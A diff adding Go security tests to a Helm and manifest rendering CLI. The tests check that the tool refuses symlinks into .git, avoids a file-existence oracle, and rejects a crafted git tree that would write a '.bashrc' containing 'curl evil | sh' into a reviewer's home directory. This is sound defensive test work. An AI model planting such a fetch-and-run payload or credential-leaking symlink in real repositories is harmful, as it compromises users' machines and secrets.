@@ -3,6 +3,9 @@ package cli
 import (
 	"bytes"
 	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
 	"fmt"
 	"net/http"
 	"net/http/httptest"
@@ -16,6 +19,9 @@ import (
 	"syscall"
 	"testing"
 	"time"
+
+	"helm.sh/helm/v3/pkg/chart"
+	"helm.sh/helm/v3/pkg/chartutil"
 )
 
 // The hostile-input table: what a tenant of a shared repo-server could
@@ -532,5 +538,166 @@ func TestHostileDownloads(t *testing.T) {
 				t.Errorf("%d requests reached the silent server", silentHits.Load())
 			}
 		})
+	}
+}
+
+// TestHostileGitDir (issue 18, class 8): nothing under .git is input, by
+// path or through a symlink, and a path outside the root gives one message
+// whether or not it exists.
+func TestHostileGitDir(t *testing.T) {
+	const token = "TOKEN-ghp-never-printed"
+	gitConfig := "[http]\n\textraheader = AUTHORIZATION: basic " + token + "\n"
+	leak := "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: leak\ndata:\n  t: " + token + "\n"
+	chart := map[string]string{
+		"app/Chart.yaml":       chartYAML,
+		"app/templates/t.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\ndata:\n  c: {{ .Files.Get \"files/c\" | quote }}\n",
+	}
+	with := func(base map[string]string, kv ...string) map[string]string {
+		m := map[string]string{".git/config": gitConfig, ".git/leak.yaml": leak, ".git/values.yaml": "x: " + token + "\n"}
+		for k, v := range base {
+			m[k] = v
+		}
+		for i := 0; i+1 < len(kv); i += 2 {
+			m[kv[i]] = kv[i+1]
+		}
+		return m
+	}
+	for _, tc := range []struct {
+		name   string
+		files  map[string]string
+		args   []string // run in repo/app
+		code   int
+		stderr string
+	}{
+		{"chart file symlink to .git/config", with(chart, "app/files/c", symlink+"../../.git/config"), []string{"plan", "."}, 1, "files/c: symlink points in .git, which is never read"},
+		{"chart file symlink to .git through an absolute path", with(chart, "app/files/c", symlink+"{{REPO}}/.git/config"), []string{"render", "."}, 1, "files/c: symlink points in .git, which is never read"},
+		{"manifest symlink to .git/leak.yaml", with(nil, "app/a.yaml", symlink+"../.git/leak.yaml"), []string{"render", "."}, 1, "a.yaml: symlink points in .git, which is never read"},
+		{"value file under .git", with(chart, "app/files/c", "x"), []string{"render", "-f", "/.git/values.yaml", "."}, 1, ".git"},
+		{"ordering file under .git", with(nil, "app/a.yaml", cm("a")), []string{"render", "--order", "../.git/config", "."}, 1, "ordering file ../.git/config is in .git, which is never read\n"},
+		{"directory source with recurse at the root", with(nil, "app/a.yaml", cm("a"), "syncwave.yaml", "apiVersion: syncwave.io/v1alpha1\nkind: SyncOrder\nsources:\n  - directory: {path: ., recurse: true}\n"), []string{"render", "--repo-root", "..", ".."}, 0, ""},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			repo := filepath.Join(t.TempDir(), "repo")
+			writeTree(t, repo, tc.files, strings.NewReplacer("{{REPO}}", repo))
+			out, errOut, code := run(t, filepath.Join(repo, "app"), tc.args...)
+			if code != tc.code || !strings.Contains(errOut, tc.stderr) || (code != 0 && out != "") {
+				t.Errorf("exit %d (want %d), stdout %q, stderr %q (want %q)", code, tc.code, out, errOut, tc.stderr)
+			}
+			if strings.Contains(out+errOut, token) || strings.Contains(out, "name: leak") {
+				t.Errorf("a file under .git was read:\n%s\n%s", out, errOut)
+			}
+		})
+	}
+
+	// no existence oracle: an outside path that exists and one that does
+	// not give the same message, through a symlinked manifest and through
+	// the order-file parameter
+	outside := t.TempDir()
+	if err := os.WriteFile(filepath.Join(outside, "exists.yaml"), []byte(cm("o")), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	messages := func(files map[string]string, args ...string) []string {
+		var got []string
+		for _, name := range []string{"exists.yaml", "missing.yaml"} {
+			repo := filepath.Join(t.TempDir(), "repo")
+			writeTree(t, repo, files, strings.NewReplacer("{{OUT}}", filepath.Join(outside, name)))
+			a := strings.NewReplacer("{{OUT}}", filepath.Join(outside, name)).Replace(strings.Join(args, "\x00"))
+			out, errOut, code := run(t, filepath.Join(repo, "app"), strings.Split(a, "\x00")...)
+			if code != 1 || out != "" {
+				t.Errorf("%s: exit %d, stdout %q", name, code, out)
+			}
+			got = append(got, strings.ReplaceAll(errOut, name, "NAME"))
+		}
+		return got
+	}
+	for name, m := range map[string][]string{
+		"symlinked manifest": messages(map[string]string{".git/HEAD": "x", "app/a.yaml": symlink + "{{OUT}}"}, "render", "."),
+		"--order":            messages(map[string]string{".git/HEAD": "x", "app/a.yaml": cm("a")}, "render", "--order", "{{OUT}}", "."),
+	} {
+		if m[0] != m[1] || !strings.Contains(m[0], "outside the repository root") {
+			t.Errorf("%s: an existing and a missing file outside give different messages:\n%s\n%s", name, m[0], m[1])
+		}
+	}
+}
+
+// TestHostilePlanDiffTree (issue 18, class 2): a pull request's commit
+// whose tree holds "x" both as a symlink to the reviewer's home and as a
+// directory: plan --diff refuses it and writes nothing there.
+func TestHostilePlanDiffTree(t *testing.T) {
+	repo := gitRepo(t, nil)
+	home := t.TempDir()
+	app := gitOut(t, repo, nil, "rev-parse", "HEAD:app")
+	bashrc := gitOut(t, repo, []byte("curl evil | sh\n"), "hash-object", "-w", "--stdin")
+	link := gitOut(t, repo, []byte(home), "hash-object", "-w", "--stdin")
+	dir := gitOut(t, repo, []byte("100644 blob "+bashrc+"\t.bashrc\n"), "mktree")
+	commit := commitTree(t, repo, rawTree(t, repo, [3]string{"40000", "app", app}, [3]string{"120000", "x", link}, [3]string{"40000", "x", dir}))
+	out, errOut, code := run(t, repo, "plan", "--diff", commit, "app")
+	if code != 1 || out != "" || !strings.Contains(errOut, `entry "x" is both a symlink and a directory`) {
+		t.Errorf("exit %d, stdout %q, stderr %q", code, out, errOut)
+	}
+	if _, err := os.Stat(filepath.Join(home, ".bashrc")); err == nil {
+		t.Error("plan --diff wrote outside its temporary directory")
+	}
+}
+
+// TestHostileLockAliases (issue 18, class 5): a Chart.lock listing one
+// chart twice, for two aliases at different versions, as helm dependency
+// update writes it. init downloads both versions, each once, and render
+// gives both aliases' objects (5), where the lock read by name gave 3.
+func TestHostileLockAliases(t *testing.T) {
+	files := map[string][]byte{}
+	var index strings.Builder
+	index.WriteString("apiVersion: v1\nentries:\n  sub:\n")
+	for _, v := range []string{"1.1.0", "1.2.0"} {
+		p, err := chartutil.Save(&chart.Chart{
+			Metadata: &chart.Metadata{APIVersion: "v2", Name: "sub", Version: v},
+			Templates: []*chart.File{{Name: "templates/o.yaml", Data: []byte("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {{ .Chart.Name }}-cm\ndata:\n  v: {{ .Chart.Version | quote }}\n" +
+				"---\napiVersion: v1\nkind: Secret\nmetadata:\n  name: {{ .Chart.Name }}-s\n")}},
+		}, t.TempDir())
+		if err != nil {
+			t.Fatal(err)
+		}
+		b, err := os.ReadFile(p)
+		if err != nil {
+			t.Fatal(err)
+		}
+		sum := sha256.Sum256(b)
+		files["/"+filepath.Base(p)] = b
+		fmt.Fprintf(&index, "  - name: sub\n    version: %s\n    urls: [%s]\n    digest: %s\n", v, filepath.Base(p), hex.EncodeToString(sum[:]))
+	}
+	files["/index.yaml"] = []byte(index.String())
+	var archives atomic.Int64
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, ok := files[r.URL.Path]
+		if !ok {
+			http.NotFound(w, r)
+			return
+		}
+		if strings.HasSuffix(r.URL.Path, ".tgz") {
+			archives.Add(1)
+		}
+		w.Write(b)
+	}))
+	defer srv.Close()
+	deps := []*chart.Dependency{{Name: "sub", Alias: "old", Version: "1.1.0", Repository: srv.URL}, {Name: "sub", Alias: "new", Version: "1.2.0", Repository: srv.URL}}
+	lock := []*chart.Dependency{{Name: "sub", Version: "1.1.0", Repository: srv.URL}, {Name: "sub", Version: "1.2.0", Repository: srv.URL}}
+	data, err := json.Marshal([2][]*chart.Dependency{deps, lock})
+	if err != nil {
+		t.Fatal(err)
+	}
+	sum := sha256.Sum256(data)
+	app := filepath.Join(t.TempDir(), "app")
+	writeFile(t, filepath.Join(app, "Chart.yaml"), fmt.Sprintf("apiVersion: v2\nname: app\nversion: 1.0.0\ndependencies:\n  - {name: sub, alias: old, version: 1.1.0, repository: %[1]s}\n  - {name: sub, alias: new, version: 1.2.0, repository: %[1]s}\n", srv.URL))
+	writeFile(t, filepath.Join(app, "Chart.lock"), fmt.Sprintf("dependencies:\n- name: sub\n  repository: %[1]s\n  version: 1.1.0\n- name: sub\n  repository: %[1]s\n  version: 1.2.0\ndigest: sha256:%[2]s\ngenerated: \"2024-01-01T00:00:00Z\"\n", srv.URL, hex.EncodeToString(sum[:])))
+	writeFile(t, filepath.Join(app, "templates", "cm.yaml"), cm("parent"))
+	if out, errOut, code := run(t, app, "init", "."); code != 0 || strings.Count(out+errOut, "sub 1.1.0") != 1 || strings.Count(out+errOut, "sub 1.2.0") != 1 {
+		t.Fatalf("init: exit %d, stdout %q, stderr %q", code, out, errOut)
+	}
+	if archives.Load() != 2 {
+		t.Errorf("%d archive downloads, want 2 (one per lock entry)", archives.Load())
+	}
+	out, errOut, code := run(t, app, "render", ".")
+	if code != 0 || strings.Count(out, "\nkind: ") != 5 || !strings.Contains(out, "name: old-cm") || !strings.Contains(out, "name: new-cm") {
+		t.Errorf("render: exit %d, stderr %q, %d objects:\n%s", code, errOut, strings.Count(out, "\nkind: "), out)
 	}
 }
